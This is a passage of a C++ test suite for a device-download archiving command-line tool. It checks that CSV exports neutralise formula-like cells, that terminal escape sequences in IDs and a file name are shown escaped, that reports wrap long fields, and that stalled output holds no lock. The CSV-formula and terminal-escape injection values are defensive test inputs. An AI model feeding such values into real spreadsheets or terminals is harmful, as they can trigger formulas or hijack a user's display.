    for (const char* says : {"\"'@P\",1,", "\"'\tQ\",1,"})
        EXPECT_NE(unknownCsv.find(says), std::string::npos) << says << "\n" << unknownCsv;
    const std::string downloadsCsv = run({"--archive", db, "downloads", "--csv", "-"}).out;
    EXPECT_NE(downloadsCsv.find(",\"'=7*6\","), std::string::npos) << downloadsCsv;
    // The window program's CSV keeps its bytes.
    const std::string windowCsv =
        run({"--archive", db, "history", "--device", "@P", "--csv", "-"}).out;
    EXPECT_NE(windowCsv.find(",@P,14 Mar 2026,"), std::string::npos) << windowCsv;
    EXPECT_EQ(windowCsv.find("'@P"), std::string::npos) << windowCsv;
    // Control bytes are shown escaped in every text for a terminal and in
    // error lines: info and downloads keep a line each, due and assets show
    // the location's bytes, and a file name's bytes reach no terminal.
    const std::string shown = "\\x1B]0;o\\x07\\x1B[2J\\x0D\\x0ASN: X";
    ran = run({"--virtual", "--identity", path("SN5.id"), "info"});
    EXPECT_EQ(ran.out, "ID: " + shown + "\nSN: SN5\n");
    const std::string downloadsText = run({"--archive", db, "downloads", "--text", "-"}).out;
    EXPECT_NE(downloadsText.find(shown), std::string::npos) << downloadsText;
    EXPECT_EQ(std::count(downloadsText.begin(), downloadsText.end(), '\n'), 6) << downloadsText;
    for (const Ran& text : {run({"--archive", db, "due"}), run({"--archive", db, "assets"}),
                            run({"--archive", db, "import", path("\x1b[2J.csv")})}) {
        EXPECT_EQ(text.out.find_first_of("\x1b\r"), std::string::npos) << text.out;
        EXPECT_EQ(text.err.find_first_of("\x1b\r"), std::string::npos) << text.err;
        EXPECT_NE((text.out + text.err).find("\\x1B[2J"), std::string::npos)
            << text.out << text.err;
    }
    // The report: the long location wraps in its column of the PDF, the
    // failed pump's device ID and date whole beside it, and the web page
    // fits the browser's window.
    ran = run({"--archive", db, "report", "--as-of", "2026-06-01", "--pdf", path("wide.pdf"),
               "--html", path("wide.html")});
    ASSERT_EQ(ran.code, CliDone) << ran.err;
    const std::string widePdf = pdfText(path("wide.pdf"));
    EXPECT_NE(words(widePdf).find("IV-2 P3 +WWW"), std::string::npos) << widePdf;
    EXPECT_GE(std::count(widePdf.begin(), widePdf.end(), 'W'), 199 * 3) << widePdf;
    EXPECT_NE(widePdf.find("\\x0DW\\x1B[2J"), std::string::npos) << widePdf;
    const Browsed wideBrowsed = browse(path("wide.html"), path("browser-wide"));
    ASSERT_EQ(wideBrowsed.problem, "");
    EXPECT_GT(wideBrowsed.width, 0);
    EXPECT_LE(wideBrowsed.width, 1280);
}

// The real program started with its standard output a pipe of one page
// that nobody reads: it stalls once it has written that page.  The pipe's
// reading end is returned, to be closed once the program is ended.
std::pair<pid_t, int> stalledRun(std::vector<std::string> args) {
    int fds[2];
    if (::pipe2(fds, O_CLOEXEC) != 0) return {-1, -1};
    ::fcntl(fds[1], F_SETPIPE_SZ, 4096);
    args.insert(args.begin(), LUMKEST_CLI_PATH);
    std::vector<char*> argv;
    for (std::string& a : args) argv.push_back(a.data());
    argv.push_back(nullptr);
    posix_spawn_file_actions_t actions;
    posix_spawn_file_actions_init(&actions);
    posix_spawn_file_actions_adddup2(&actions, fds[1], 1);
    pid_t pid = -1;
    if (posix_spawn(&pid, argv[0], &actions, nullptr, argv.data(), environ) != 0) pid = -1;
    posix_spawn_file_actions_destroy(&actions);
    ::close(fds[1]);
    // Stalled: the page is full.
    for (int waited = 0, queued = 0; pid > 0 && queued < 4096 && waited < 400; ++waited) {
        ::usleep(50000);
        ::ioctl(fds[0], FIONREAD, &queued);
    }
    return {pid, fds[0]};
}

// A reader whose output nobody reads (a pager left open) and a download
// whose output nobody reads hold no lock on the archive: downloads
// meanwhile are archived at once.  The stalled download, ended, added
// nothing: a download is archived only once its outputs are written.
TEST_P(CliArchive, StalledOutputsHoldNoLock) {
    ASSERT_EQ(pgtest::pg().problem, "");
    const std::string db = pgtest::freshArchive(GetParam(), dir_.string());
    const std::vector<TestRecord> records = VirtualTester::defaultRecords();
    ASSERT_EQ(run(download(db, "SN1", records)).code, CliDone);
    std::vector<std::string> stalledDownload = download(db, "SN2", records);
    stalledDownload.insert(stalledDownload.end(), {"--csv", "-"});
    for (const auto& [stalled, serial] :
         {std::make_pair(std::vector<std::string>{"--archive", db, "history", "--csv", "-"},
                         std::string("SN3")),
          std::make_pair(stalledDownload, std::string("SN2"))}) {
        const auto [pid, pipe] = stalledRun(stalled);
        ASSERT_GT(pid, 0);
        const auto start = std::chrono::steady_clock::now();
        const Ran ran = run(download(db, serial, records));
        const auto took = std::chrono::steady_clock::now() - start;
        EXPECT_EQ(ran.code, CliDone) << ran.err;
        EXPECT_LT(took, std::chrono::seconds(20));
        ::kill(pid, SIGKILL);
        ::waitpid(pid, nullptr, 0);
        ::close(pipe);
    }
    const Ran ran = run({"--archive", db, "downloads", "--csv", "-"});
    EXPECT_EQ(std::count(ran.out.begin(), ran.out.end(), '\n'), 4) << ran.out;  // header, 3
}

INSTANTIATE_TEST_SUITE_P(Archive, CliArchive, ::testing::Values(false, true),
                         [](const auto& info) { return info.param ? "PostgreSQL" : "SQLite"; });

}  // namespace
